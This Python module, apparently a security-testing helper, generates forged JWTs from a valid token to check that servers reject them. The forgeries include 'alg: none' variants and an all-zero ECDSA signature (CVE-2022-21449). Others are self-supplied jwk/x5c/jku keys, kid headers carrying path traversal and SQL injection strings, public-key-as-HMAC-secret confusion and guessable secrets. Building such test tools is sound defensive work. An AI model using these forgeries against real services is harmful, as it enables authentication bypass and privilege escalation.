"""Access tokens that no server signed: JWTs (RFC 7519) forged in the ways that RFC 8725 and its history know of. Pure.

A forgery keeps the claims of a token that is good, so that nothing but its signature or its key is a reason to refuse
it. Keys are drawn once for a process.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from typing import Any

import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import get_default_algorithms
from jwt.api_jws import PyJWS

__all__ = ["FORGERIES", "NoJwt", "NoKey", "forged"]

_PARTS = 3
_SIGNATURE_BYTES = 64
_CURVES: dict[str, type[ec.EllipticCurve]] = {"ES256": ec.SECP256R1, "ES384": ec.SECP384R1, "ES512": ec.SECP521R1}
_GUESSABLE = ("secret", "", "password", "changeme", "your-256-bit-secret", "your_jwt_secret", "key", "jwt")
_VALID = (datetime(2020, 1, 1, tzinfo=UTC), datetime(2120, 1, 1, tzinfo=UTC))
Claims = Mapping[str, Any]
Forge = Callable[["_Jwt"], Iterator[str]]


class NoJwt(ValueError):  # noqa: N818 - what the token is
    """The token is no signed JWT in compact form (RFC 7515, section 7.1): what it says cannot be changed."""


class NoKey(ValueError):  # noqa: N818 - likewise
    """The forgery needs a public key, and none that can be read is published."""


@dataclass(frozen=True, slots=True)
class _Jwt:
    header: dict[str, Any]
    claims: dict[str, Any]
    signature: bytes
    keys: tuple[object, ...]

    @property
    def algorithm(self) -> str:
        """Its own algorithm, where a key for that can be drawn; else ES256."""
        told = str(self.header.get("alg"))
        return told if told in get_default_algorithms() and told != "none" else "ES256"

    def written(
        self, signature: bytes | None = None, *, header: Claims | None = None, claims: Claims | None = None
    ) -> str:
        """The token with another signature, or with other members of header or claims."""
        signed = _signing_input({**self.header, **(header or {})}, {**self.claims, **(claims or {})})
        return f"{signed}.{_encoded(self.signature if signature is None else signature)}"

    def signed(self, key: Any, algorithm: str, header: Claims | None = None) -> str:  # noqa: ANN401 - what PyJWT takes
        """The token with a signature of ours, which is right for the key."""
        told = {**self.header, **(header or {}), "alg": algorithm}
        return PyJWS().encode(json.dumps(self.claims).encode(), key, algorithm, told)

    def with_hmac(self, secret: bytes, header: Claims | None = None) -> str:
        """Likewise by HS256, with any secret: PyJWT takes neither a public key nor a short one for it."""
        signed = _signing_input({**self.header, "alg": "HS256", **(header or {})}, self.claims)
        return f"{signed}.{_encoded(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def forged(token: str, forgery: str, keys: Sequence[object] = ()) -> list[str]:
    """All spellings of a forgery.

    Args:
        token: an access token that is good.
        forgery: one of `FORGERIES`.
        keys: the public keys of the server, as a JWK set has them (RFC 7517, section 5.1).

    Raises:
        NoJwt: the token is no signed JWT.
        NoKey: the forgery needs a public key of the server.
    """
    parts = token.split(".")
    try:
        header, claims = (json.loads(_decoded(part)) for part in parts[:2])
        signature = _decoded(parts[2])
    except (ValueError, IndexError) as error:
        raise NoJwt("the access token is no JWT") from error
    if len(parts) != _PARTS or not isinstance(header, dict) or not isinstance(claims, dict):
        raise NoJwt("the access token is no JWT")
    return list(FORGERIES[forgery](_Jwt(header, claims, signature, tuple(keys))))


def _unsigned(it: _Jwt) -> Iterator[str]:
    # RFC 8725, section 2.1: what compares "none" in one spelling takes another.
    for spelt in ("none", "None", "NONE", "nOnE"):
        yield it.written(b"", header={"alg": spelt})
    yield it.written(header={"alg": "none"})


def _without_signature(it: _Jwt) -> Iterator[str]:
    yield it.written(b"")
    yield it.written(b"").rstrip(".")


def _another_signature(it: _Jwt) -> Iterator[str]:
    for place in {0, len(it.signature) // 2, len(it.signature) - 1} if it.signature else ():
        changed = bytearray(it.signature)
        changed[place] ^= 1
        yield it.written(bytes(changed))
    yield it.written(secrets.token_bytes(len(it.signature) or _SIGNATURE_BYTES))


def _cut_off(it: _Jwt) -> Iterator[str]:
    for length in {max(len(it.signature) - 1, 0), len(it.signature) // 2}:
        yield it.written(it.signature[:length])


def _zeros(it: _Jwt) -> Iterator[str]:
    # CVE-2022-21449: an ECDSA signature of zeros fits everything. As r and s side by side, and in DER.
    yield it.written(bytes(len(it.signature) or _SIGNATURE_BYTES))
    yield it.written(b"\x30\x06\x02\x01\x00\x02\x01\x00")


def _says_something_else(it: _Jwt) -> Iterator[str]:
    ends = it.claims.get("exp")
    yield it.written(claims={"exp": ends + 86_400 if isinstance(ends, int) else 4_102_444_800})
    yield it.written(claims={"role": "support", "scope": "admin"})
    yield it.written(claims={"sub": secrets.token_hex(8)})


def _another_key(it: _Jwt) -> Iterator[str]:
    yield it.signed(_key(it.algorithm), it.algorithm)
    if it.algorithm != "ES256":
        yield it.signed(_key("ES256"), "ES256")


def _brings_its_key(it: _Jwt) -> Iterator[str]:
    # RFC 7515, sections 4.1.3 and 4.1.6; CVE-2018-0114.
    name = _asymmetric(it.algorithm)
    jwk = _jwk(name)
    for header in (
        {"jwk": jwk, "kid": jwk["kid"]},
        {"jwk": jwk},
        {"x5c": [base64.b64encode(_certificate(name)).decode()]},
    ):
        yield it.signed(_key(name), name, header)


def _points_to_its_key(it: _Jwt) -> Iterator[str]:
    # RFC 7515, sections 4.1.2 and 4.1.5. The address holds the key itself: nobody has to serve it.
    name = _asymmetric(it.algorithm)
    jwk = _jwk(name)
    pem = x509.load_der_x509_certificate(_certificate(name)).public_bytes(Encoding.PEM)
    for header in (
        {"jku": _address("application/json", json.dumps({"keys": [jwk]}).encode()), "kid": jwk["kid"]},
        {"x5u": _address("application/pem-certificate-chain", pem)},
    ):
        yield it.signed(_key(name), name, header)


def _names_a_known_key(it: _Jwt) -> Iterator[str]:
    # RFC 8725, section 3.10: a kid that is a path to an empty file, or a query that finds what it says.
    for kid in ("/dev/null", "../../../../../../../../dev/null"):
        yield it.with_hmac(b"", {"kid": kid})
    for kid in ("x' UNION SELECT 'AAAA", "x' UNION SELECT 'AAAA' -- ", "x'||(SELECT 'AAAA')||'"):
        yield it.with_hmac(b"AAAA", {"kid": kid})
        yield it.with_hmac(base64.b64decode(b"AAAA"), {"kid": kid})


def _public_key_as_secret(it: _Jwt) -> Iterator[str]:
    # RFC 8725, section 2.1: HS256 with what everybody knows, in every form that a server may keep it in.
    spelt: dict[bytes, None] = {}
    for jwk in (key for key in it.keys if isinstance(key, dict)):
        try:
            key = jwt.PyJWK(jwk, algorithm=jwk.get("alg") or it.algorithm).key
            pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
            der = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        except (jwt.PyJWTError, AttributeError, ValueError):  # a kind of key that nobody can write so
            continue
        own = (json.dumps(jwk, separators=separators).encode() for separators in ((", ", ": "), (",", ":")))
        spelt |= dict.fromkeys((pem, pem.rstrip(b"\n"), der, base64.b64encode(der), *own))
    if not spelt:
        raise NoKey("no public key is published that could be taken for a secret")
    for secret in spelt:
        yield it.with_hmac(secret)


def _guessable_secret(it: _Jwt) -> Iterator[str]:
    # RFC 8725, section 3.5.
    for secret in _GUESSABLE:
        yield it.with_hmac(secret.encode())


FORGERIES: dict[str, Forge] = {
    "that says it is not signed": _unsigned,
    "without its signature": _without_signature,
    "with another signature": _another_signature,
    "with its signature cut off": _cut_off,
    "with a signature of zeros": _zeros,
    "that says something else": _says_something_else,
    "signed with another key": _another_key,
    "signed with a key that it brings along": _brings_its_key,
    "signed with a key that it points to": _points_to_its_key,
    "signed with a key that is named by a trick": _names_a_known_key,
    "signed with the public key as secret": _public_key_as_secret,
    "signed with a secret that is easily guessed": _guessable_secret,
}
"""Every forgery by the name that sentences have for it."""


def _asymmetric(algorithm: str) -> str:
    return "ES256" if algorithm.startswith("HS") else algorithm


@cache
def _key(algorithm: str) -> Any:  # noqa: ANN401 - of the kind that the algorithm takes
    if algorithm.startswith("HS"):
        return secrets.token_bytes(64)
    if algorithm.startswith(("RS", "PS")):
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
    if algorithm in _CURVES:
        return ec.generate_private_key(_CURVES[algorithm]())
    if algorithm == "ES256K":
        return ec.generate_private_key(ec.SECP256K1())
    return ed25519.Ed25519PrivateKey.generate()


@cache
def _jwk(algorithm: str) -> dict[str, Any]:
    told = get_default_algorithms()[algorithm].to_jwk(_key(algorithm).public_key(), as_dict=True)
    return {**told, "kid": secrets.token_hex(8), "alg": algorithm, "use": "sig"}


@cache
def _certificate(algorithm: str) -> bytes:
    """A certificate of the key by itself, in DER."""
    key, name = _key(algorithm), x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "forged.example")])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(_VALID[0])
        .not_valid_after(_VALID[1])
    )
    signed = made.sign(key, None if isinstance(key, ed25519.Ed25519PrivateKey) else hashes.SHA256())
    return signed.public_bytes(Encoding.DER)


def _address(media_type: str, content: bytes) -> str:
    return f"data:{media_type};base64,{base64.b64encode(content).decode()}"  # RFC 2397


def _signing_input(header: Claims, claims: Claims) -> str:
    return ".".join(_encoded(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _decoded(text: str) -> bytes:
    return base64.b64decode(text + "=" * (-len(text) % 4), altchars=b"-_", validate=True)
